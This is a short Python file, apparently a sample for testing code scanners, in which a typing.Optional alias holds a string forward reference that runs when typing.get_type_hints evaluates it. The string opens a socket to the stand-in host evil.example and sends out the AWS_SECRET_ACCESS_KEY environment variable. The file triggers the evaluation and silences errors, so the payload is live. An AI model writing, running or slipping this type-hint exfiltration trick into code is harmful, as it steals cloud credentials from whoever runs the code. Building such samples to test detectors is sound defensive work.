# harm: sends AWS_SECRET_ACCESS_KEY over a raw socket ; trick: typing.Optional["..."] alias, ForwardRef inside the Union evaluated by get_type_hints
import typing

Maybe = typing.Optional["__import__('socket').create_connection(('evil.example',4444)).sendall(__import__('os').environ.get('AWS_SECRET_ACCESS_KEY','').encode())"]


def fetch(key: Maybe = None) -> None:
    pass


try:
    typing.get_type_hints(fetch)
except Exception:
    pass
